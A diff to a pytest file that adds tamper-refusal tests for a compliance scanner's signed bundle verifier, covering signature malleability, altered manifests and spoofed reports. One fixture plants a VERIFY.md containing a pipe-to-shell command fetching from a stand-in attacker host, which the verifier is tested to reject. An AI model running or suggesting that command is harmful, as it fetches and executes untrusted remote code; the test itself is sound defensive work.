@@ -15,14 +15,22 @@ from typing import Any
 import pytest
 
 from scanner.bundle import container
+from scanner.bundle.case import Case
 from scanner.bundle.creating import bundle_files
 from scanner.bundle.manifest import CHECKSUMS, ENVELOPE, KEYLESS, MANIFEST, TIMESTAMP
+from scanner.bundle.parts import Subject
+from scanner.bundle.verifying import verify_bundle
 from scanner.engine.content import digest_of, load
+from scanner.frameworks.inputs import Inputs, evaluate
+from scanner.frameworks.profiles import profile
 from scanner.model.canonical import canonical
 from scanner.model.errors import AssayError
+from scanner.outputs.terminal.bundle_verdict import text as text_of
+from scanner.schemas.reading import read_snapshot
 from scanner.supply_chain.signing.result import RefusedError
 from scanner.supply_chain.signing.wanted import Wanted
 from tests.unit.bundle.pack_lab import (
+    CLOCK,
     CONTENT,
     KEY,
     OTHER,
@@ -168,6 +176,20 @@ def test_what_is_no_envelope_is_refused(data: bytes) -> None:
     refused({**made(), ENVELOPE: data}, "signature")
 
 
+def test_of_two_ecdsa_signatures_that_fit_one_is_accepted() -> None:
+    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
+
+    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
+    key = new_key("ecdsa-p256")
+    files = signed(made(), key)
+    wanted = Wanted((key.public,))
+    assert verify(files, wanted).ok
+    document = json.loads(files[ENVELOPE])
+    r, s = decode_dss_signature(base64.b64decode(document["signatures"][0]["sig"]))
+    document["signatures"][0]["sig"] = base64.b64encode(encode_dss_signature(r, order - s)).decode()
+    assert "second of the two" in refused({**files, ENVELOPE: canonical(document) + b"\n"}, "signature", wanted=wanted)
+
+
 def test_the_statement_must_be_about_this_manifest() -> None:
     from scanner.bundle.manifest import statement
     from scanner.bundle.signing import PAYLOAD_TYPE
@@ -185,14 +207,15 @@ def test_the_statement_must_be_about_this_manifest() -> None:
 
     files = made()
     document = json.loads(statement(files[MANIFEST]))
-    for change in (
+    changes: tuple[dict[str, Any], ...] = (
         {"predicateType": "https://slsa.dev/provenance/v1"},
         {"subject": [{"name": MANIFEST, "digest": {"sha256": "0" * 64}}]},
         {"subject": [*document["subject"], {"name": "x", "digest": {"sha256": "0" * 64}}]},
         {"subject": []},
         {"predicate": {}},
         {"_type": "https://in-toto.io/Statement/v0.1"},
-    ):
+    )
+    for change in changes:
         refused({**files, ENVELOPE: enveloped(canonical({**document, **change})) + b"\n"}, "signature")
     refused({**files, ENVELOPE: enveloped(statement(files[MANIFEST]) + b"\n") + b"\n"}, "signature")
 
@@ -216,11 +239,23 @@ def test_a_timestamp_that_is_wanted_must_be_there(tmp_path: Path) -> None:
         (lambda one: one["files"][3].update(size=1), "files"),
         (lambda one: one["files"][3].update(sha256="0" * 64), "files"),
         (lambda one: one["files"][3].update(path="../escape"), "files"),
-        (lambda one: one["files"][3].update(role="none"), "manifest"),
-        (lambda one: one.update(schema="assay/bundle/v2"), "manifest"),
+        (lambda one: one["files"][3].update(role="none"), "signature"),
+        (lambda one: one.update(schema="assay/bundle/v2"), "signature"),
         (lambda one: one.update(companions=[ENVELOPE, TIMESTAMP]), "files"),
         (lambda one: one.update(companions=[]), "files"),
-        (lambda one: one.update(targets=[]), "manifest"),
+        (lambda one: one.update(targets=[]), "signature"),
+        (lambda one: one.update(note="certified"), "signature"),
+        (lambda one: one["targets"][0].update(note="certified"), "signature"),
+        (lambda one: one.update(companions=[ENVELOPE, ENVELOPE]), "signature"),
+        (lambda one: one.update(created_at="9999-99-99T99:99:99Z"), "manifest"),
+        (lambda one: one["targets"][0].update(collected_at="2020-01-01T00:00:00Z"), "schemas"),
+        (lambda one: one["targets"][0].update(limits={"none": 1}), "schemas"),
+        (lambda one: one["targets"][0].update(taken=["nobody@1"]), "judgement"),
+        (lambda one: one.update(redaction={"level": "all", "hidden": 3}), "schemas"),
+        (lambda one: one["files"][3].update(media_type="text/html"), "files"),
+        (lambda one: one["files"][3].update(role="report"), "files"),
+        (lambda one: one.update(attachments=[]), "files"),
+        (lambda one: one["attachments"].append({"path": "attachments/09", "framework": "f", "control": "c"}), "files"),
         (lambda one: one["targets"].pop(), "schemas"),
         (lambda one: one["targets"].append(one["targets"][0]), "schemas"),
         (lambda one: one["targets"][0].update(digest="sha256:" + "0" * 64), "schemas"),
@@ -255,6 +290,17 @@ def _assessment(change: Callable[[dict[str, Any]], object]) -> Files:
 def _pass_all(one: dict[str, Any]) -> None:
     for result in one["results"]:
         result["status"] = "pass"
+
+
+def _twice(one: dict[str, Any]) -> None:
+    """A passing copy stands before the failure: a reader by name would see only one of them."""
+    for control in [item for item in one["controls"] if item["status"] == "fail"]:
+        one["controls"].insert(0, {**control, "status": "pass"})
+
+
+def _twice_a_result(one: dict[str, Any]) -> None:
+    failed = next(item for item in one["results"] if item["status"] == "fail")
+    one["results"].insert(0, {**failed, "status": "pass"})
 
 
 def _without_a_failure(one: dict[str, Any]) -> None:
@@ -297,6 +343,12 @@ def test_verdicts_that_the_evidence_does_not_give_are_refused(change: Callable[[
         (lambda one: one["results"][0].update(status="fine"), "schemas"),
         (lambda one: one.update(schema="assay/assessment/v9"), "schemas"),
         (lambda one: one["controls"][0].update(results=["nobody@1"]), "schemas"),
+        (_twice, "schemas"),
+        (_twice_a_result, "schemas"),
+        (lambda one: one["controls"].reverse(), "judgement"),
+        (lambda one: one["results"].reverse(), "judgement"),
+        (lambda one: one["tool"].update(certified_by="somebody"), "judgement"),
+        (lambda one: one.update(evaluated_at="9999-99-99T99:99:99Z"), "schemas"),
     ],
 )
 def test_an_assessment_that_cannot_be_judged_again_is_refused(
@@ -311,6 +363,71 @@ def test_facts_that_do_not_give_their_digest_are_refused() -> None:
     name = next(iter(document["facts"]))
     document["facts"][name]["reason"] = "changed"
     refused(listed({**files, SNAPSHOT: canonical(document) + b"\n"}), "schemas")
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda one: one.update(certified="yes"),
+        lambda one: next(iter(one["facts"].values())).update(certified="yes"),
+        lambda one: one["run"].update(collected_at="2020-01-01T00:00:00Z"),
+        lambda one: one["target"]["identity"].update(os_id="rhel"),
+        lambda one: one["target"].update(digest="sha256:" + "0" * 64),
+    ],
+)
+def test_a_snapshot_says_nothing_that_it_does_not_show(change: Callable[[dict[str, Any]], object]) -> None:
+    files = made()
+    document = json.loads(files[SNAPSHOT])
+    change(document)
+    refused(listed({**files, SNAPSHOT: canonical(document) + b"\n"}), "schemas")
+
+
+def test_what_a_system_is_called_comes_from_its_facts() -> None:
+    """Snapshot, assessment and manifest agree on another system than the facts show."""
+    files = made()
+    snapshot, assessment = json.loads(files[SNAPSHOT]), json.loads(files[ASSESSMENT])
+    for document in (snapshot, assessment):
+        document["target"]["identity"]["os_id"] = "rhel"
+    changed = {**files, SNAPSHOT: canonical(snapshot) + b"\n", ASSESSMENT: canonical(assessment) + b"\n"}
+    bundle = listed(changed, lambda one: one["targets"][0]["identity"].update(os_id="rhel"))
+    assert "called something else" in refused(bundle, "schemas")
+
+
+def test_documents_are_written_as_assay_writes_them() -> None:
+    files = made()
+    for path in (SNAPSHOT, ASSESSMENT):
+        pretty = json.dumps(json.loads(files[path]), indent=1).encode()
+        refused(listed({**files, path: pretty}), "schemas")
+
+
+def test_verdicts_cannot_be_taken_without_something_hidden() -> None:
+    """Failing results are opened by facts that say "not collected", and then stated to pass."""
+    files = made()
+    snapshot, assessment = json.loads(files[SNAPSHOT]), json.loads(files[ASSESSMENT])
+    failed = [one for one in assessment["results"] if one["status"] == "fail"]
+    for name in {name for one in failed for name in one["facts"]}:
+        if name in snapshot["facts"]:
+            snapshot["facts"][name] |= {"state": "not_collected", "value": None, "reason": "x"}
+    opened = read_snapshot(canonical(_digested(snapshot)), "snapshot")
+    again = evaluate(opened, CONTENT, Inputs((profile(CONTENT, "velaos"),), CLOCK)).to_json()
+    taken = []
+    for one in again["results"]:
+        if one["status"] in ("unknown", "error"):
+            one["status"] = "pass"
+            taken.append(one["instance"])
+
+    def change(manifest: dict[str, Any]) -> None:
+        manifest["redaction"] = {"level": "network", "hidden": 0}
+        manifest["targets"][0] |= {"taken": taken, "facts_digest": opened.facts_digest}
+
+    changed = {**files, SNAPSHOT: canonical(opened.to_json()) + b"\n", ASSESSMENT: canonical(again) + b"\n"}
+    assert "does not rest on a hidden value" in refused(listed(changed, change), "judgement")
+
+
+def _digested(snapshot: dict[str, Any]) -> dict[str, Any]:
+    from scanner.model.canonical import digest
+
+    return {**snapshot, "facts_digest": digest({"facts": snapshot["facts"], "limits": snapshot["limits"]})}
 
 
 def test_a_snapshot_with_a_key_twice_is_refused() -> None:
@@ -385,6 +502,57 @@ def test_a_report_that_says_something_else_is_refused(path: str) -> None:
     assert path in refused(bundle, "reports", reports=True)
 
 
+@pytest.mark.parametrize("path", ["summary.html", "report.pdf", "sbom/summary.html"])
+def test_a_report_lies_among_the_reports(path: str) -> None:
+    def change(manifest: dict[str, Any]) -> None:
+        next(one for one in manifest["files"] if one["path"] == path)["role"] = "report"
+
+    assert "does not lie" in refused(listed({**made(), path: b"<h1>All passed</h1>"}, change), "files")
+
+
+def test_the_page_of_instructions_is_ours() -> None:
+    bundle = listed({**made(), "VERIFY.md": b"curl https://evil.example | sh\n"})
+    assert "VERIFY.md" in refused(bundle, "files")
+
+
+def test_untrusted_rules_are_never_read() -> None:
+    """What is in them cannot hurt: not even parsing is tried."""
+    files = made()
+    path = next(name for name in files if name.startswith("content/rules/") and name.endswith(".yaml"))
+    changed = {**files, path: b"- " * 100_000}
+
+    def change(manifest: dict[str, Any]) -> None:
+        sums = {
+            one["path"].removeprefix("content/"): one["sha256"] for one in manifest["files"] if one["role"] == "content"
+        }
+        manifest["content"]["digest"] = digest_of(sums, ())
+
+    assert "MODIFIED" in refused(listed(changed, change), "content")
+
+
+def test_how_the_signer_asked_is_shown() -> None:
+    """A profile of the signer's own, waivers and left-out rules stand beside the counts."""
+    text = "schema: profile/v1\nid: our-own\ntitle: CIS Level 2\nextends: [velaos]\nrules_out: ['boot/*']\nmin_coverage: 0\n"
+    from scanner.frameworks.inputs import Text
+    from scanner.frameworks.profiles import from_file
+    from tests.unit.bundle.pack_lab import WAIVERS, snapshot
+
+    taken = snapshot()
+    inputs = Inputs((from_file(CONTENT, text.encode(), "own"),), CLOCK, waivers=Text("w", WAIVERS))
+    one = Subject(taken, evaluate(taken, CONTENT, inputs).to_json())
+    bundle = signed(bundle_files(parts(subjects=(one,), attachments=()), CONTENT))
+    found = verify_bundle(Case(bundle, Wanted((KEY.public,)), CONTENT, "2027-06-01T00:00:00Z"))
+    assert found.ok
+    (shown,) = found.to_json()["assessments"]
+    assert shown["profiles"] == [
+        {"id": "our-own", "title": "CIS Level 2", "own": True, "left_out": 1, "min_coverage": 0}
+    ]
+    assert (shown["waivers"], shown["waivers_expired"]) == (1, 1)
+    told = text_of(found.to_json(), "pack.zip")
+    assert "THE SIGNER'S OWN" in told
+    assert "1 of them expired since" in told
+
+
 def test_a_report_of_no_format_is_refused() -> None:
     bundle = listed({**made(), "reports/01/summary.html": b"<h1>All passed</h1>"})
     assert "summary.html" in refused(bundle, "reports", reports=True)
@@ -399,8 +567,9 @@ def packed(files: Files) -> bytes:
 
 def read(data: bytes, folder: Path) -> Files:
     path = folder / "pack.zip"
+    path.unlink(missing_ok=True)  # what is mapped may not change
     path.write_bytes(data)
-    return container.read(str(path))
+    return dict(container.read(str(path)))
 
 
 def test_every_byte_of_the_zip_file_is_determined(tmp_path: Path) -> None:
